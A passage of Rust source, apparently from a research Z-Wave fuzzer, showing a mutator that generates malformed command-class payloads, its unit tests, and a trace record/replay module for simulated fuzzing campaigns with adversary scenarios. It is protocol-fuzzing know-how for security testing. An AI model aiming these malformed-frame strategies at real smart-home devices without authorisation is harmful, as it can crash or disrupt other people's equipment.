            // Non-destructive shapes first: probing a node with appended
            // capability bytes precedes the bare (truncated) form, so a
            // removal-style reaction cannot mask the others.
            for &node in &self.semantic_nodes {
                plans.push(vec![node, 0x00]);
                plans.push(vec![node, 0x04]);
                plans.push(vec![node]);
            }
            plans.push(vec![0xFF]);
            plans.push(vec![0x0A, 0x01]);
            plans.push(vec![0x1D]);
            plans.push(vec![0x00, 0x00, 0x00, 0x00, 0x00]);
        }
        // Bound the per-command plan budget so wide commands cannot eat a
        // whole CMDCL window.
        plans.truncate(24);
        plans.dedup();
        plans
    }

    /// Applies one position-sensitive mutation to `payload` (positions 1+
    /// only: the CMDCL under test stays fixed, per Table I's "rand valid"
    /// restriction at position 0 being handled by the queue itself).
    pub fn mutate(&mut self, payload: &mut ApplicationPayload, spec: Option<&CommandClassSpec>) {
        // Position choice: CMD 25 %, parameters 75 %.
        let n_params = payload.params().len();
        let pos = if self.rng.gen_bool(0.25) || n_params == 0 {
            FieldPosition::Command
        } else {
            FieldPosition::Param(self.rng.gen_range(0..=n_params.min(10)))
        };
        let op = *MutationOp::all().choose(&mut self.rng).expect("non-empty");
        self.apply(payload, pos, op, spec);
    }

    /// Applies a specific operator at a specific position.
    pub fn apply(
        &mut self,
        payload: &mut ApplicationPayload,
        pos: FieldPosition,
        op: MutationOp,
        spec: Option<&CommandClassSpec>,
    ) {
        let current = payload.field(pos).unwrap_or(0);
        let value = match op {
            MutationOp::RandValid => self.rand_valid(payload, pos, spec),
            MutationOp::RandInvalid => self.rand_invalid(payload, pos, spec),
            MutationOp::Arith => {
                // Command ids are categorical: the meaningful arithmetic
                // probe is the *adjacent* id. Parameters are numeric and
                // get a slightly wider delta.
                let delta = match pos {
                    FieldPosition::Command => self.rng.gen_range(1..=2u8),
                    _ => self.rng.gen_range(1..=4u8),
                };
                if self.rng.gen_bool(0.5) {
                    current.wrapping_add(delta)
                } else {
                    current.wrapping_sub(delta)
                }
            }
            MutationOp::Interesting => {
                let mut pool: Vec<u8> = INTERESTING_BYTES.to_vec();
                pool.extend_from_slice(&self.semantic_nodes);
                *pool.choose(&mut self.rng).expect("non-empty")
            }
            MutationOp::Insert => {
                let appended: u8 = self.rng.gen();
                payload.params_mut().push(appended);
                return;
            }
        };
        if !payload.set_field(pos, value) {
            // Out-of-range parameter slot: fall back to appending.
            payload.params_mut().push(value);
        }
    }

    fn rand_valid(
        &mut self,
        payload: &ApplicationPayload,
        pos: FieldPosition,
        spec: Option<&CommandClassSpec>,
    ) -> u8 {
        match (pos, spec) {
            (FieldPosition::Command, Some(s)) if !s.commands.is_empty() => {
                s.commands.choose(&mut self.rng).expect("non-empty").id
            }
            (FieldPosition::Param(i), Some(s)) => {
                let param_spec =
                    payload.command().and_then(|cmd| s.command(cmd)).and_then(|c| c.params.get(i));
                match param_spec {
                    Some(p) => {
                        let values = p.valid_values();
                        *values.choose(&mut self.rng).unwrap_or(&0)
                    }
                    None => self.rng.gen_range(0..=0x20),
                }
            }
            // Unknown class: plausible small command ids / parameter bytes.
            (FieldPosition::Command, _) => self.rng.gen_range(0..=0x1F),
            _ => {
                let mut pool: Vec<u8> = vec![0x00, 0x01, 0xFF];
                pool.extend_from_slice(&self.semantic_nodes);
                *pool.choose(&mut self.rng).expect("non-empty")
            }
        }
    }

    fn rand_invalid(
        &mut self,
        payload: &ApplicationPayload,
        pos: FieldPosition,
        spec: Option<&CommandClassSpec>,
    ) -> u8 {
        match (pos, spec) {
            // Position sensitivity applies to illegal values too: command
            // ids live in a small neighbourhood of the defined set, so an
            // "illegal command" probe stays near it instead of spraying
            // the whole byte space (this is what keeps ZCover's CMD
            // coverage around the 53 values Table V reports, against
            // VFuzz's indiscriminate 256).
            (FieldPosition::Command, Some(s)) => {
                let max = s.commands.iter().map(|c| c.id).max().unwrap_or(0);
                let bound = max.saturating_add(3);
                loop {
                    let v: u8 = self.rng.gen_range(0..=bound);
                    if s.command(v).is_none() {
                        break v;
                    }
                }
            }
            (FieldPosition::Command, None) => self.rng.gen_range(0..=0x17),
            (FieldPosition::Param(i), Some(s)) => {
                let param_spec =
                    payload.command().and_then(|cmd| s.command(cmd)).and_then(|c| c.params.get(i));
                match param_spec {
                    Some(p) => {
                        let invalid = p.invalid_values();
                        invalid.choose(&mut self.rng).copied().unwrap_or_else(|| self.rng.gen())
                    }
                    None => self.rng.gen(),
                }
            }
            _ => self.rng.gen_range(0x30..=0xFF),
        }
    }

    /// Purely random payload generation — the γ ablation configuration
    /// ("Random CMDCLs + no position-sensitive mutation", Table VI).
    pub fn random_payload(&mut self) -> ApplicationPayload {
        let cc = CommandClassId(self.rng.gen());
        let cmd: u8 = self.rng.gen();
        let len = self.rng.gen_range(0..=6);
        let params: Vec<u8> = (0..len).map(|_| self.rng.gen()).collect();
        ApplicationPayload::new(cc, cmd, params)
    }

    /// The semantic node-id pool.
    pub fn semantic_nodes(&self) -> &[u8] {
        &self.semantic_nodes
    }

    /// Builds the semantic pool from a scan report's node ids.
    pub fn semantic_pool(controller: NodeId, slaves: &[NodeId]) -> Vec<u8> {
        let mut pool = vec![controller.0];
        pool.extend(slaves.iter().map(|n| n.0));
        pool
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mutator() -> Mutator {
        Mutator::new(7, vec![0x01, 0x02, 0x03])
    }

    #[test]
    fn seed_payload_matches_algorithm1() {
        let m = mutator();
        let p = m.seed_payload(CommandClassId(0x01), 0x00);
        assert_eq!(p.encode(), vec![0x01, 0x00, 0x00]);
    }

    #[test]
    fn plans_for_unknown_class_include_semantic_nodes() {
        let m = mutator();
        let plans = m.exploration_plans(CommandClassId(0x01), 0x0D);
        // Node-targeted plans: existing node, broadcast marker, rogue id.
        assert!(plans.contains(&vec![0x02]));
        assert!(plans.contains(&vec![0x02, 0x00]));
        assert!(plans.contains(&vec![0x02, 0x04]));
        assert!(plans.contains(&vec![0xFF]));
        assert!(plans.contains(&vec![0x0A, 0x01]));
    }

    #[test]
    fn plans_for_known_class_sweep_boundaries() {
        let m = mutator();
        // Powerlevel Set: [level 0..=9, timeout].
        let plans = m.exploration_plans(CommandClassId(0x73), 0x01);
        assert!(plans.iter().any(|p| p.first() == Some(&0x0A)), "max+1 boundary probed");
        assert!(plans.iter().any(|p| p.first() == Some(&0x09)), "max boundary probed");
        assert!(plans.len() <= 24);
    }

    #[test]
    fn truncation_plan_present_for_parameterised_commands() {
        let m = mutator();
        // AGI InfoGet has two parameters; truncated variant must appear.
        let plans = m.exploration_plans(CommandClassId(0x59), 0x03);
        assert!(plans.iter().any(|p| p.len() == 1));
    }

    #[test]
    fn insert_op_appends() {
        let mut m = mutator();
        let mut p = ApplicationPayload::new(CommandClassId(0x20), 0x01, vec![0xFF]);
        m.apply(&mut p, FieldPosition::Param(0), MutationOp::Insert, None);
        assert_eq!(p.params().len(), 2);
    }

    #[test]
    fn rand_valid_on_known_command_picks_defined_ids() {
        let mut m = mutator();
        let spec = Registry::global().get(CommandClassId(0x5A)).unwrap();
        for _ in 0..20 {
            let mut p = ApplicationPayload::new(CommandClassId(0x5A), 0x00, vec![]);
            m.apply(&mut p, FieldPosition::Command, MutationOp::RandValid, Some(spec));
            assert_eq!(p.command(), Some(0x01), "only DEVICE_RESET_LOCALLY_NOTIFICATION exists");
        }
    }

    #[test]
    fn rand_invalid_on_known_command_avoids_defined_ids() {
        let mut m = mutator();
        let spec = Registry::global().get(CommandClassId(0x20)).unwrap();
        for _ in 0..50 {
            let mut p = ApplicationPayload::new(CommandClassId(0x20), 0x01, vec![0xFF]);
            m.apply(&mut p, FieldPosition::Command, MutationOp::RandInvalid, Some(spec));
            assert!(spec.command(p.command().unwrap()).is_none());
        }
    }

    #[test]
    fn mutate_never_touches_position_zero() {
        let mut m = mutator();
        for _ in 0..200 {
            let mut p = ApplicationPayload::new(CommandClassId(0x62), 0x01, vec![0x00, 0x01]);
            m.mutate(&mut p, None);
            assert_eq!(p.command_class(), CommandClassId(0x62));
        }
    }

    #[test]
    fn mutation_is_deterministic_per_seed() {
        let run = |seed| {
            let mut m = Mutator::new(seed, vec![0x02]);
            let mut p = ApplicationPayload::new(CommandClassId(0x01), 0x0D, vec![0x00]);
            for _ in 0..10 {
                m.mutate(&mut p, None);
            }
            p.encode()
        };
        assert_eq!(run(1), run(1));
        assert_ne!(run(1), run(2));
    }

    #[test]
    fn random_payload_is_unconstrained() {
        let mut m = mutator();
        let mut classes = std::collections::HashSet::new();
        for _ in 0..300 {
            classes.insert(m.random_payload().command_class().0);
        }
        // Uniform draws over 256 values should show wide spread.
        assert!(classes.len() > 100, "spread {}", classes.len());
    }

    #[test]
    fn semantic_pool_from_scan() {
        let pool = Mutator::semantic_pool(NodeId(1), &[NodeId(2), NodeId(3)]);
        assert_eq!(pool, vec![1, 2, 3]);
    }
}

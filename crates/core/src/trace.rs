//! Campaign trace record/replay: the regression backbone that *pins* the
//! determinism PR 1–3 established.
//!
//! A [`TraceRecorder`] journals one trial's full event stream — every
//! scheduler dequeue (frame arrivals with a content hash, timers, blackout
//! window edges, via [`zwave_radio::sched::EventObserver`]), every fuzzer
//! event ([`TraceSink`] callbacks with virtual timestamps), and every
//! oracle verdict — to a versioned JSONL [`Trace`]. Because the whole
//! simulation is a pure function of `(device, seed, config, impairment)`,
//! the trace header alone suffices to re-execute the trial: [`replay`]
//! reruns it with a fresh recorder and diffs the two journals event by
//! event, reporting the *first divergence* with surrounding context. A
//! regression anywhere in the stack — scheduler ordering, impairment RNG
//! streams, mutator draw order, oracle timing — therefore surfaces as a
//! precise `(event index, virtual time)` instead of a silently different
//! Table III.
//!
//! Golden traces for a small seed/profile matrix live under
//! `tests/golden_traces/` and are pinned byte-for-byte by
//! `tests/trace_replay.rs`.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use parking_lot::Mutex;

use zwave_controller::testbed::{DeviceModel, Testbed};
use zwave_radio::sched::{Event, EventKind, EventObserver};
use zwave_radio::{ImpairmentProfile, Medium, SimClock, SimInstant, SimScheduler};

use crate::buglog::VulnFinding;
use crate::fuzzer::{CampaignResult, FuzzConfig, TraceSink};
use crate::scenarios::Scenario;
use crate::{ZCover, ZCoverError, ZCoverReport};

/// Trace format version emitted and accepted by this build.
pub const TRACE_VERSION: u64 = 1;

/// Errors loading or replaying a trace file.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum TraceError {
    /// The file could not be read or written.
    Io(String),
    /// The first line is not a `zcover_trace` header or a field is broken.
    Malformed(String),
    /// The header declares a version this build does not understand.
    UnsupportedVersion(u64),
    /// The header names a device, config, or profile this build lacks.
    UnknownMeta(String),
    /// Re-executing the recorded trial failed (fingerprinting error).
    Replay(ZCoverError),
}

impl std::fmt::Display for TraceError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            TraceError::Io(e) => write!(f, "trace io error: {e}"),
            TraceError::Malformed(e) => write!(f, "malformed trace: {e}"),
            TraceError::UnsupportedVersion(v) => write!(f, "unsupported trace version {v}"),
            TraceError::UnknownMeta(e) => write!(f, "unknown trace metadata: {e}"),
            TraceError::Replay(e) => write!(f, "replay failed: {e}"),
        }
    }
}

impl std::error::Error for TraceError {}

/// Everything needed to re-execute the recorded trial: the trace header.
#[derive(Debug, Clone, PartialEq)]
pub struct TraceMeta {
    /// Device model index (`D1`..`D7`).
    pub device: String,
    /// The trial's RNG seed (for executor-recorded trials, the *derived*
    /// per-trial seed, so each trial trace replays independently).
    pub seed: u64,
    /// Canonical configuration name ([`FuzzConfig::named`] vocabulary).
    pub config: String,
    /// Channel impairment profile.
    pub impairment: ImpairmentProfile,
    /// Virtual fuzzing budget.
    pub budget: Duration,
    /// Scripted adversary scenario sharing the medium with the trial.
    pub scenario: Scenario,
}

impl TraceMeta {
    /// Serializes the header line. The `scenario` field is emitted only
    /// when one is set, so traces of plain campaigns — including every
    /// golden recorded before scenarios existed — keep their exact bytes.
    fn header_line(&self) -> String {
        let mut line = format!(
            "{{\"zcover_trace\":{TRACE_VERSION},\"device\":\"{}\",\"seed\":{},\
             \"config\":\"{}\",\"impairment\":\"{}\",\"budget_s\":{:.3}",
            self.device,
            self.seed,
            self.config,
            self.impairment,
            self.budget.as_secs_f64()
        );
        if self.scenario != Scenario::None {
            line.push_str(&format!(",\"scenario\":\"{}\"", self.scenario));
        }
        line.push('}');
        line
    }

    /// Parses a header line.
    fn from_header_line(line: &str) -> Result<TraceMeta, TraceError> {
        let version: u64 = field(line, "zcover_trace")
            .ok_or_else(|| TraceError::Malformed("missing zcover_trace version".into()))?
            .parse()
            .map_err(|_| TraceError::Malformed("non-numeric trace version".into()))?;
        if version != TRACE_VERSION {
            return Err(TraceError::UnsupportedVersion(version));
        }
        let device =
            field(line, "device").ok_or_else(|| TraceError::Malformed("missing device".into()))?;
        let seed: u64 = field(line, "seed")
            .ok_or_else(|| TraceError::Malformed("missing seed".into()))?
            .parse()
            .map_err(|_| TraceError::Malformed("non-numeric seed".into()))?;
        let config =
            field(line, "config").ok_or_else(|| TraceError::Malformed("missing config".into()))?;
        let profile_name = field(line, "impairment")
            .ok_or_else(|| TraceError::Malformed("missing impairment".into()))?;
        let impairment = ImpairmentProfile::parse(&profile_name)
            .ok_or_else(|| TraceError::UnknownMeta(format!("impairment {profile_name}")))?;
        let budget_s: f64 = field(line, "budget_s")
            .ok_or_else(|| TraceError::Malformed("missing budget_s".into()))?
            .parse()
            .map_err(|_| TraceError::Malformed("non-numeric budget_s".into()))?;
        // Absent on pre-scenario traces: those trials ran without an
        // adversary station.
        let scenario = match field(line, "scenario") {
            Some(name) => Scenario::parse(&name)
                .ok_or_else(|| TraceError::UnknownMeta(format!("scenario {name}")))?,
            None => Scenario::None,
        };
        Ok(TraceMeta {
            device,
            seed,
            config,
            impairment,
            budget: Duration::from_secs_f64(budget_s),
            scenario,
        })
    }

    /// The device model named in the header.
    fn model(&self) -> Result<DeviceModel, TraceError> {
        DeviceModel::all()
            .into_iter()
            .find(|m| m.idx().eq_ignore_ascii_case(&self.device))
            .ok_or_else(|| TraceError::UnknownMeta(format!("device {}", self.device)))
    }

    /// The fuzzing configuration the header describes.
    fn fuzz_config(&self) -> Result<FuzzConfig, TraceError> {
        FuzzConfig::named(&self.config, self.budget, self.seed)
            .ok_or_else(|| TraceError::UnknownMeta(format!("config {}", self.config)))
            .map(|c| c.with_impairment(self.impairment).with_scenario(self.scenario))
    }
}

/// Extracts a top-level field from one flat JSON object line (quoted
/// strings are unquoted; no nesting support — trace lines are flat by
/// construction).
fn field(line: &str, key: &str) -> Option<String> {
    let marker = format!("\"{key}\":");
    let start = line.find(&marker)? + marker.len();
    let rest = &line[start..];
    if let Some(quoted) = rest.strip_prefix('"') {
        Some(quoted[..quoted.find('"')?].to_string())
    } else {
        let end = rest.find([',', '}']).unwrap_or(rest.len());
        Some(rest[..end].trim().to_string())
    }
}

/// A recorded trial: header metadata plus the canonical event lines, in
/// execution order.
#[derive(Debug, Clone, PartialEq)]
pub struct Trace {
    /// Re-execution parameters (the header line).
    pub meta: TraceMeta,
    /// One serialized JSON object per journal event.
    pub events: Vec<String>,
}

impl Trace {
    /// Serializes the whole trace as JSONL (header first, one event per
    /// line, trailing newline).
    pub fn to_jsonl(&self) -> String {
        let mut out = String::with_capacity(64 * (self.events.len() + 1));
        out.push_str(&self.meta.header_line());
        out.push('\n');
        for line in &self.events {
            out.push_str(line);
            out.push('\n');
        }
        out
    }

    /// Writes the trace to `path`.
    ///
    /// # Errors
    ///
    /// [`TraceError::Io`] when the file cannot be written.
    pub fn save(&self, path: &Path) -> Result<(), TraceError> {
        if let Some(dir) = path.parent().filter(|d| !d.as_os_str().is_empty()) {
            std::fs::create_dir_all(dir)
                .map_err(|e| TraceError::Io(format!("{}: {e}", dir.display())))?;
        }
        std::fs::write(path, self.to_jsonl())
            .map_err(|e| TraceError::Io(format!("{}: {e}", path.display())))
    }

    /// Reads a trace back from `path`.
    ///
    /// # Errors
    ///
    /// [`TraceError::Io`] on read failure, [`TraceError::Malformed`] /
    /// [`TraceError::UnsupportedVersion`] / [`TraceError::UnknownMeta`] on
    /// a broken header.
    pub fn load(path: &Path) -> Result<Trace, TraceError> {
        let text = std::fs::read_to_string(path)
            .map_err(|e| TraceError::Io(format!("{}: {e}", path.display())))?;
        Trace::from_jsonl(&text)
    }

    /// Parses a trace from its JSONL serialization.
    ///
    /// # Errors
    ///
    /// Same header errors as [`Trace::load`].
    pub fn from_jsonl(text: &str) -> Result<Trace, TraceError> {
        let mut lines = text.lines();
        let header = lines.next().ok_or_else(|| TraceError::Malformed("empty trace".into()))?;
        let meta = TraceMeta::from_header_line(header)?;
        let events: Vec<String> = lines.filter(|l| !l.is_empty()).map(|l| l.to_string()).collect();
        Ok(Trace { meta, events })
    }

    /// The virtual timestamp recorded on event `index`, if present.
    pub fn at_us(&self, index: usize) -> Option<u64> {
        self.events.get(index).and_then(|l| field(l, "at_us")).and_then(|v| v.parse().ok())
    }
}

// ───────────────────────── serialization ─────────────────────────

/// FNV-1a over the full delivery contents (receiver, bytes, rssi,
/// duplication, reorder window): frame arrivals are journaled as a short
/// hash instead of a hex dump, which keeps golden traces small while still
/// detecting any payload or impairment-outcome change.
fn delivery_hash(event: &Event) -> u64 {
    let EventKind::FrameArrival(deliveries) = &event.kind else { return 0 };
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let mut eat = |byte: u8| {
        h ^= u64::from(byte);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    };
    for d in deliveries {
        for byte in (d.station as u64).to_le_bytes() {
            eat(byte);
        }
        for byte in (d.bytes.len() as u64).to_le_bytes() {
            eat(byte);
        }
        for &byte in &d.bytes {
            eat(byte);
        }
        for byte in d.rssi_cdbm.to_le_bytes() {
            eat(byte);
        }
        eat(u8::from(d.duplicated));
        eat(d.reorder_window as u8);
    }
    h
}

/// Serializes the actor id (`SimScheduler::MEDIUM_ACTOR` prints as -1).
fn actor_str(actor: usize) -> String {
    if actor == SimScheduler::MEDIUM_ACTOR {
        "-1".to_string()
    } else {
        actor.to_string()
    }
}

/// Canonical journal line for one released scheduler event.
fn sched_line(event: &Event) -> String {
    let prefix = format!(
        "{{\"t\":\"sched\",\"at_us\":{},\"seq\":{},\"actor\":{}",
        event.at.as_micros(),
        event.seq,
        actor_str(event.actor)
    );
    match &event.kind {
        EventKind::FrameArrival(deliveries) => format!(
            "{prefix},\"ev\":\"frame\",\"n\":{},\"h\":\"{:016x}\"}}",
            deliveries.len(),
            delivery_hash(event)
        ),
        EventKind::Timer(token) => format!("{prefix},\"ev\":\"timer\",\"id\":{}}}", token.id()),
        EventKind::BlackoutStart { generation, stage } => {
            format!("{prefix},\"ev\":\"blackout_start\",\"gen\":{generation},\"stage\":{stage}}}")
        }
        EventKind::BlackoutEnd { generation, stage } => {
            format!("{prefix},\"ev\":\"blackout_end\",\"gen\":{generation},\"stage\":{stage}}}")
        }
    }
}

/// Canonical journal line for one fuzzer-level event.
fn fuzz_line(at: SimInstant, ev: &str) -> String {
    format!("{{\"t\":\"fuzz\",\"at_us\":{},\"ev\":\"{ev}\"}}", at.as_micros())
}

/// Canonical journal line for one oracle verdict.
fn oracle_line(finding: &VulnFinding) -> String {
    format!(
        "{{\"t\":\"oracle\",\"at_us\":{},\"ev\":\"finding\",\"bug\":{},\"cmdcl\":{},\"cmd\":{}}}",
        finding.found_at.as_micros(),
        finding.bug_id,
        finding.cmdcl,
        finding.cmd
    )
}

// ───────────────────────── recording ─────────────────────────

/// The shared journal both halves of the recorder append to: the scheduler
/// observer (dequeue hook) and the [`TraceSink`] (fuzzer hook). One trial
/// is single-threaded, so lines interleave in true execution order.
struct Journal {
    lines: Mutex<Vec<String>>,
    clock: SimClock,
}

impl Journal {
    fn push(&self, line: String) {
        self.lines.lock().push(line);
    }
}

impl EventObserver for Journal {
    fn event_dequeued(&self, event: &Event) {
        self.push(sched_line(event));
    }
}

/// Records one trial's event journal. Create with [`TraceRecorder::attach`]
/// *before* running the pipeline, pass as the campaign's [`TraceSink`],
/// then call [`TraceRecorder::finish`].
///
/// The recorder is a pure observer: a campaign runs bit-identically with
/// or without one attached.
pub struct TraceRecorder {
    meta: TraceMeta,
    journal: Arc<Journal>,
    medium: Medium,
}

impl TraceRecorder {
    /// Hooks the recorder onto `medium`'s scheduler. Everything the
    /// simulation dequeues from this point on — fingerprinting, discovery,
    /// and the campaign itself — lands in the journal, so replaying from
    /// the same header reproduces the identical stream.
    pub fn attach(medium: &Medium, meta: TraceMeta) -> TraceRecorder {
        let journal =
            Arc::new(Journal { lines: Mutex::new(Vec::new()), clock: medium.clock().clone() });
        medium.scheduler().set_observer(Some(journal.clone()));
        TraceRecorder { meta, journal, medium: medium.clone() }
    }

    /// Detaches the scheduler hook, appends the summary footer, and
    /// returns the finished trace.
    pub fn finish(self, result: &CampaignResult) -> Trace {
        self.medium.scheduler().set_observer(None);
        let mut events = std::mem::take(&mut *self.journal.lines.lock());
        events.push(format!(
            "{{\"t\":\"end\",\"at_us\":{},\"packets\":{},\"findings\":{},\"sched_events\":{}}}",
            result.ended.as_micros(),
            result.packets_sent,
            result.unique_vulns(),
            self.medium.scheduler().events_processed()
        ));
        Trace { meta: self.meta, events }
    }
}

impl TraceSink for TraceRecorder {
    fn packet_sent(&mut self) {
        self.journal.push(fuzz_line(self.journal.clock.now(), "packet"));
    }

    fn plan_executed(&mut self) {
        self.journal.push(fuzz_line(self.journal.clock.now(), "plan"));
    }

    fn outage_observed(&mut self) {
        self.journal.push(fuzz_line(self.journal.clock.now(), "outage"));
    }

    fn finding(&mut self, finding: &VulnFinding) {
        self.journal.push(oracle_line(finding));
    }

    fn retransmission(&mut self) {
        self.journal.push(fuzz_line(self.journal.clock.now(), "retransmission"));
    }

    fn ack_timeout(&mut self) {
        self.journal.push(fuzz_line(self.journal.clock.now(), "ack_timeout"));
    }

    fn corpus_retained(&mut self, new_edges: u64, corpus_size: usize) {
        self.journal.push(format!(
            "{{\"t\":\"corpus\",\"at_us\":{},\"ev\":\"retain\",\"edges\":{new_edges},\
             \"size\":{corpus_size}}}",
            self.journal.clock.now().as_micros()
        ));
    }

    fn attack_frame(&mut self, index: u64) {
        self.journal.push(format!(
            "{{\"t\":\"attack\",\"at_us\":{},\"ev\":\"frame\",\"index\":{index}}}",
            self.journal.clock.now().as_micros()
        ));
    }
}

/// A recorded trial: the trace plus the pipeline report it journaled.
pub struct RecordedCampaign {
    /// The finished event journal.
    pub trace: Trace,
    /// The three-phase pipeline report of the recorded run.
    pub report: ZCoverReport,
    /// The testbed the trial ran against (for oracle inspection).
    pub testbed: Testbed,
}

/// Runs the full three-phase pipeline on a fresh testbed with a recorder
/// attached. This is the single code path used by `zcover fuzz --record`
/// *and* by [`replay`], so a recorded trace and its replay journal the
/// exact same execution.
///
/// # Errors
///
/// Propagates pipeline [`ZCoverError`]s.
pub fn record_campaign(
    model: DeviceModel,
    config_name: &str,
    config: FuzzConfig,
) -> Result<RecordedCampaign, ZCoverError> {
    let meta = TraceMeta {
        device: model.idx().to_string(),
        seed: config.seed,
        config: config_name.to_string(),
        impairment: config.impairment,
        budget: config.testing_duration,
        scenario: config.scenario,
    };
    let mut testbed = Testbed::new(model, config.seed);
    let mut recorder = TraceRecorder::attach(crate::FuzzTarget::medium(&testbed), meta);
    let mut zcover = ZCover::attach(&testbed, 70.0);
    let report = zcover.run_campaign_with_sink(&mut testbed, config, &mut recorder)?;
    let trace = recorder.finish(&report.campaign);
    Ok(RecordedCampaign { trace, report, testbed })
}

// ───────────────────────── replay & diffing ─────────────────────────

/// The first point where a replayed journal departs from the recorded one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Divergence {
    /// 0-based index into the event stream (header excluded).
    pub index: usize,
    /// Virtual timestamp of the divergent event (from the recorded line
    /// when present, else from the replayed one).
    pub at_us: Option<u64>,
    /// The recorded line (`None`: the replay produced *extra* events).
    pub expected: Option<String>,
    /// The replayed line (`None`: the replay ended *early*).
    pub actual: Option<String>,
    /// Up to three recorded lines immediately before the divergence.
    pub context: Vec<String>,
}

/// Outcome of diffing a recorded trace against its replay.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReplayReport {
    /// Events in the recorded trace.
    pub recorded_events: usize,
    /// Events the replay produced.
    pub replayed_events: usize,
    /// The first divergence, or `None` when the journals are identical.
    pub divergence: Option<Divergence>,
}

impl ReplayReport {
    /// Whether the replay matched the recording event-for-event.
    pub fn is_clean(&self) -> bool {
        self.divergence.is_none()
    }

    /// Human-readable verdict for the `zcover replay` subcommand.
    pub fn render(&self) -> String {
        match &self.divergence {
            None => format!("replay OK: {} events, zero divergence", self.recorded_events),
            Some(d) => {
                let mut out = String::new();
                let when = d
                    .at_us
                    .map(|us| format!("{:.6} s", us as f64 / 1e6))
                    .unwrap_or_else(|| "?".to_string());
                out.push_str(&format!(
                    "DIVERGENCE at event {} (virtual t = {when}); \
                     recorded {} events, replayed {}\n",
                    d.index, self.recorded_events, self.replayed_events
                ));
                let context_start = d.index.saturating_sub(d.context.len());
                for (offset, line) in d.context.iter().enumerate() {
                    out.push_str(&format!("  {:>8} | {line}\n", context_start + offset));
                }
                match &d.expected {
                    Some(line) => out.push_str(&format!("  expected | {line}\n")),
                    None => out.push_str("  expected | <end of recorded trace>\n"),
                }
                match &d.actual {
                    Some(line) => out.push_str(&format!("  actual   | {line}\n")),
                    None => out.push_str("  actual   | <replay ended early>\n"),
                }
                out
            }
        }
    }
}

/// Diffs two event streams, reporting the first differing index.
pub fn diff_traces(recorded: &Trace, replayed: &Trace) -> ReplayReport {
    let n = recorded.events.len().max(replayed.events.len());
    for index in 0..n {
        let expected = recorded.events.get(index);
        let actual = replayed.events.get(index);
        if expected == actual {
            continue;
        }
        let context_from = index.saturating_sub(3);
        let at_us = recorded.at_us(index).or_else(|| replayed.at_us(index));
        return ReplayReport {
            recorded_events: recorded.events.len(),
            replayed_events: replayed.events.len(),
            divergence: Some(Divergence {
                index,
                at_us,
                expected: expected.cloned(),
                actual: actual.cloned(),
                context: recorded.events[context_from..index].to_vec(),
            }),
        };
    }
    ReplayReport {
        recorded_events: recorded.events.len(),
        replayed_events: replayed.events.len(),
        divergence: None,
    }
}

/// Re-executes the trial described by `recorded`'s header and diffs the
/// fresh journal against the recorded one.
///
/// # Errors
///
/// [`TraceError::UnknownMeta`] when the header names an unknown device,
/// config, or profile; [`TraceError::Replay`] when the re-executed
/// pipeline fails outright.
pub fn replay(recorded: &Trace) -> Result<ReplayReport, TraceError> {
    let model = recorded.meta.model()?;
    let config = recorded.meta.fuzz_config()?;
    let rerun =
        record_campaign(model, &recorded.meta.config, config).map_err(TraceError::Replay)?;
    Ok(diff_traces(recorded, &rerun.trace))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn short_meta() -> TraceMeta {
        TraceMeta {
            device: "D1".to_string(),
            seed: 5,
            config: "full".to_string(),
            impairment: ImpairmentProfile::Lossy,
            budget: Duration::from_secs(60),
            scenario: Scenario::None,
        }
    }

    #[test]
    fn header_roundtrips_through_serialization() {
        let meta = short_meta();
        let parsed = TraceMeta::from_header_line(&meta.header_line()).unwrap();
        assert_eq!(parsed, meta);
    }

    #[test]
    fn scenario_header_field_is_conditional() {
        // No scenario → no field: pre-scenario golden traces keep their
        // exact header bytes.
        let plain = short_meta();
        assert!(!plain.header_line().contains("scenario"));
        // With a scenario the field round-trips.
        let meta = TraceMeta { scenario: Scenario::S0NoMore, ..short_meta() };
        let line = meta.header_line();
        assert!(line.contains("\"scenario\":\"s0-no-more\""));
        let parsed = TraceMeta::from_header_line(&line).unwrap();
        assert_eq!(parsed, meta);
        assert_eq!(parsed.fuzz_config().unwrap().scenario, Scenario::S0NoMore);
        // An unknown scenario name is rejected, not silently dropped.
        let bad = line.replace("s0-no-more", "s9-no-more");
        assert!(matches!(TraceMeta::from_header_line(&bad), Err(TraceError::UnknownMeta(_))));
    }

    #[test]
    fn header_version_gate() {
        let line = short_meta().header_line().replace("\"zcover_trace\":1", "\"zcover_trace\":9");
        assert_eq!(TraceMeta::from_header_line(&line), Err(TraceError::UnsupportedVersion(9)));
        assert!(matches!(
            TraceMeta::from_header_line("{\"not\":\"a trace\"}"),
            Err(TraceError::Malformed(_))
        ));
    }

    #[test]
    fn field_extractor_handles_strings_and_numbers() {
        let line = "{\"t\":\"sched\",\"at_us\":1234,\"ev\":\"frame\",\"h\":\"00ff\"}";
        assert_eq!(field(line, "at_us").as_deref(), Some("1234"));
        assert_eq!(field(line, "ev").as_deref(), Some("frame"));
        assert_eq!(field(line, "h").as_deref(), Some("00ff"));
        assert_eq!(field(line, "missing"), None);
    }

    #[test]
    fn jsonl_roundtrip_preserves_events() {
        let trace = Trace {
            meta: short_meta(),
            events: vec![
                fuzz_line(SimInstant::ZERO, "packet"),
                fuzz_line(SimInstant::ZERO, "plan"),
            ],
        };
        let back = Trace::from_jsonl(&trace.to_jsonl()).unwrap();
        assert_eq!(back, trace);
    }

    #[test]
    fn recording_does_not_perturb_the_campaign() {
        // The same trial with and without a recorder attached must produce
        // identical campaign results — the recorder is a pure observer.
        let model = DeviceModel::D1;
        let config =
            FuzzConfig::full(Duration::from_secs(120), 9).with_impairment(ImpairmentProfile::Lossy);
        let recorded = record_campaign(model, "full", config.clone()).unwrap();
        let mut tb = Testbed::new(model, 9);
        let mut zc = ZCover::attach(&tb, 70.0);
        let bare = zc.run_campaign(&mut tb, config).unwrap();
        assert_eq!(recorded.report.campaign, bare.campaign);
    }

    #[test]
    fn recording_twice_is_bit_identical_and_replays_clean() {
        let config = FuzzConfig::full(Duration::from_secs(90), 3);
        let a = record_campaign(DeviceModel::D1, "full", config.clone()).unwrap();
